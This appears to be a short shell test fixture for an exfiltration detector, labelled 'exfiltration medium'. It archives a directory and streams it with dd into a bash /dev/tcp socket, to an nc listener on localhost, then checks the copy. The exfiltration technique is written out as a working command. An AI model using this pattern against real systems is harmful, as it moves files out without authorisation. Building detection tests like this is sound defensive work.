# about: dd copies an archive into a connection of bash
# expect: exfiltration medium
# needs: nc
mkdir d; seq 9999 >d/x; tar cf a.tar d
nc -l 127.0.0.1 6503 >got & L=$!
sleep 0.4; bash -c 'exec 3>/dev/tcp/127.0.0.1/6503; dd if=a.tar bs=64k 2>/dev/null >&3'; wait $L; cmp got a.tar
